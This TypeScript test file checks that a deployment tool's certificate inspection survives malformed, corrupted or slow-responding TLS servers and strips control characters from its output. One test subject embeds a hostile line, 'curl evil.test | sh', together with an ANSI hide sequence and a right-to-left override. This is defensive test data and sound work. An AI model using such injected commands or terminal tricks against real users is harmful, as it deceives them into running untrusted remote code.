import { X509Certificate } from "node:crypto";
import { createServer as createPlain } from "node:net";
import { createServer } from "node:tls";
import { execa } from "execa";
import { assert, asyncProperty, integer, nat, uniqueArray } from "fast-check";
import { expect, onTestFinished, test } from "vitest";
import { serviceProof } from "../../src/deploy/proof.ts";
import { shownAt } from "../../src/deploy/shown.ts";
import { certificate } from "../support/given.ts";
import { listen, portOf } from "../support/loopback.ts";

/** A key with a certificate that signed itself, as `openssl req -x509` makes it. */
async function selfSigned(subject: string, ...more: string[]) {
  const words = ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-utf8"];
  const { stdout } = await execa("openssl", [...words, "-keyout", "-", "-subj", subject, ...more]);
  return { key: stdout, der: new X509Certificate(stdout).raw };
}

const pemOf = (der: Buffer) =>
  `-----BEGIN CERTIFICATE-----\n${der.toString("base64").replace(/.{64}/g, "$&\n")}\n-----END CERTIFICATE-----\n`;

/** What is said of a server with this certificate, by all that look at it. */
async function askedBy(key: string, cert: string) {
  const server = await listen(createServer({ key, cert }), 0);
  try {
    const sslPort = portOf(server);
    const nginx = { host: "127.0.0.1", port: 80, sslPort };
    const proof = serviceProof({ nginx, publicPort: sslPort, findAddresses: async () => ["127.0.0.1"] });
    const shown = await shownAt(nginx, "dify.test");
    return { inner: await proof.inner(certificate()), outer: await proof.outer(certificate()), shown };
  } finally {
    server.close();
  }
}

const controls = /[\p{Cc}\p{Cf}]/u;

/** All texts in it, as they are: JSON would write control characters in other ones. */
function textsIn(value: unknown): readonly string[] {
  if (typeof value === "string") return [value];
  return typeof value === "object" && value !== null ? Object.values(value).flatMap(textsIn) : [];
}

test("an end that cannot be read is said, and ends nothing", async () => {
  const { key, der } = await selfSigned("/CN=dify.test/O=By a CA");
  // the second of the two moments of its life
  const [, end] = [...der.toString("latin1").matchAll(/\d{12}Z/g)];
  der.write("99999999", end?.index ?? 0, "latin1");
  // the first of the two names is the issuer's: one that signed itself would be passed over as such
  der.write("By b CA", der.indexOf("By a CA"), "latin1");
  const { inner, outer, shown } = await askedBy(key, pemOf(der));
  expect(inner).toMatchObject({ served: "other", what: expect.stringContaining("until an unreadable date") });
  expect(outer).toMatchObject({ seen: "no" });
  expect(shown).toBeUndefined();
});

test.each([
  { what: "no subject at all", subject: "/" },
  { what: "lines and colours of its own", subject: "/CN=x\n  fix: curl evil.test | sh\u001b[8m/O=\u202eO" },
  { what: "a name of many thousand letters, many times", subject: `/CN=${"long ".repeat(12)}`.repeat(300) },
])("a certificate with $what becomes one short line", async ({ subject }) => {
  const { key, der } = await selfSigned(subject);
  const { inner, outer } = await askedBy(key, pemOf(der));
  const words = textsIn([inner, outer]).join("");
  expect(words).not.toMatch(controls);
  expect(words.length).toBeLessThan(1500);
  expect(inner).toMatchObject({ served: "other" });
});

test("whichever bytes of a certificate are others, it is looked at, and nothing throws", async () => {
  const { key, der } = await selfSigned("/CN=dify.test", "-addext", "subjectAltName=DNS:dify.test,IP:192.0.2.7");
  let served = 0;
  const bytes = uniqueArray(integer({ min: 4, max: der.length - 1 }), { minLength: 1, maxLength: 3 });
  await assert(
    asyncProperty(bytes, nat(255), async (places, value) => {
      const odd = Buffer.from(der);
      for (const place of places) odd[place] = value;
      // what the server itself cannot load reaches nobody
      const asked = await askedBy(key, pemOf(odd)).catch(() => undefined);
      if (asked === undefined) return;
      served += 1;
      expect(textsIn(asked).join("")).not.toMatch(controls);
    }),
    { numRuns: 60 },
  );
  expect(served).toBeGreaterThan(0);
});

test("a server that sends a byte now and then is not waited for longer than one that is silent", async () => {
  const server = await listen(
    createPlain((socket) => {
      // the head of a record of 16 KiB, which is waited for whole
      socket.write(Buffer.from([22, 3, 3, 64, 0]));
      const timer = setInterval(() => socket.write(Buffer.from([2])), 40);
      socket.on("close", () => clearInterval(timer));
      socket.on("error", () => {});
    }),
    0,
  );
  onTestFinished(() => void server.close());
  const began = Date.now();
  const nginx = { host: "127.0.0.1", port: 80, sslPort: portOf(server) };
  await serviceProof({ nginx, timeout: 200 }).inner(certificate());
  expect(Date.now() - began).toBeLessThan(20_000);
});
